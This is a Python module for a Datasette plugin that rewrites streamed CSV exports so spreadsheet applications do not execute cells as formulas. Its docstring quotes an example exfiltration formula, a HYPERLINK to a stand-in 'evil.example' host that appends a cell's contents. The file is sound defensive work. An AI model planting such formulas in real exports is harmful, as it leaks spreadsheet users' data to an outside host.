"""Datasette's CSV made safe for spreadsheets: no cell a spreadsheet would run as a formula.

A message such as ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` is
page text; exported verbatim, Excel, LibreOffice and Google Sheets run it on
opening the file. Datasette 0.65 writes its CSV (``.csv`` of every table,
view and query, streamed with ``_stream=on``) without looking at cells, and
offers no hook for CSV cells, so errata's plugin wraps the application
(``asgi_wrapper``) and rewrites the CSV as it streams out:

- a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  gets a leading ``'``, which spreadsheets read as "text follows" (the OWASP
  advice), unless the whole cell is a plain number: ``-1013`` is a code, and a
  number is no formula;
- every cell is made inert (``parsers.inert``), like every other output, for
  databases written before page text was cleaned on entry.

Only CSV is touched (``.csv`` paths answered as ``text/csv`` or
``text/plain``); JSON and HTML pass through unchanged. The rewriting works
record by record on the stream, so a streamed export of any size stays
streamed, and quoting follows Python's ``csv`` module, as Datasette's does.
"""

from __future__ import annotations

import codecs
import csv
import io
import re
from collections.abc import Awaitable, Callable, MutableMapping
from typing import Any

from errata.parsers import inert

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]
App = Callable[[Scope, Receive, Send], Awaitable[None]]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: str) -> str:
    """One CSV cell a spreadsheet shows as text: inert, and never read as a formula."""
    value = inert(value)
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class CsvRewriter:
    """Whole CSV records in, the same records with every cell ``safe_cell`` out.

    Text arrives in arbitrary chunks; a record ends at a newline outside
    quotes, and whatever follows the last such newline waits for the next
    chunk (or ``close``).
    """

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
        self._pending = ""

    def feed(self, data: bytes) -> bytes:
        text = self._pending + self._decoder.decode(data)
        end = _last_record_end(text)
        self._pending = text[end:]
        return _rewrite(text[:end])

    def close(self) -> bytes:
        text, self._pending = self._pending + self._decoder.decode(b"", final=True), ""
        return _rewrite(text)


def _last_record_end(text: str) -> int:
    """The index just after the last newline outside a quoted field (0 when there is none)."""
    quoted, end = False, 0
    for index, char in enumerate(text):
        if char == '"':
            quoted = not quoted  # "" inside a field toggles twice: no change
        elif char == "\n" and not quoted:
            end = index + 1
    return end


def _rewrite(text: str) -> bytes:
    if not text:
        return b""
    out = io.StringIO()
    writer = csv.writer(out)  # Datasette's dialect: excel, \r\n, minimal quoting
    for record in csv.reader(io.StringIO(text, newline="")):
        writer.writerow([safe_cell(cell) for cell in record])
    if not text.endswith("\n"):  # the end of the stream without a final newline
        return out.getvalue().removesuffix("\r\n").encode()
    return out.getvalue().encode()


def wrap(app: App) -> App:
    """The ASGI app with its CSV responses rewritten cell by cell."""

    async def safe_app(scope: Scope, receive: Receive, send: Send) -> None:
        if scope.get("type") != "http" or not _asks_for_csv(scope):
            await app(scope, receive, send)
            return
        await app(scope, receive, _CsvSend(send))

    return safe_app


def _asks_for_csv(scope: Scope) -> bool:
    path = str(scope.get("path", ""))
    query = bytes(scope.get("query_string", b""))
    return path.endswith(".csv") or b"_format=csv" in query


class _CsvSend:
    """``send`` for one response: rewrites its body when it turns out to be CSV."""

    def __init__(self, send: Send) -> None:
        self._send = send
        self._rewriter: CsvRewriter | None = None

    async def __call__(self, message: Message) -> None:
        if message["type"] == "http.response.start":
            message = self._start(message)
        elif message["type"] == "http.response.body" and self._rewriter is not None:
            body = self._rewriter.feed(bytes(message.get("body", b"")))
            if not message.get("more_body", False):
                body += self._rewriter.close()
            message = {**message, "body": body}
        await self._send(message)

    def _start(self, message: Message) -> Message:
        headers = [(bytes(k), bytes(v)) for k, v in message.get("headers", [])]
        kind = next((v for k, v in headers if k.lower() == b"content-type"), b"")
        if not kind.startswith((b"text/csv", b"text/plain")):
            return message  # an error page or a redirect: not CSV
        self._rewriter = CsvRewriter()
        kept = [(k, v) for k, v in headers if k.lower() != b"content-length"]  # the size changes
        return {**message, "headers": kept}
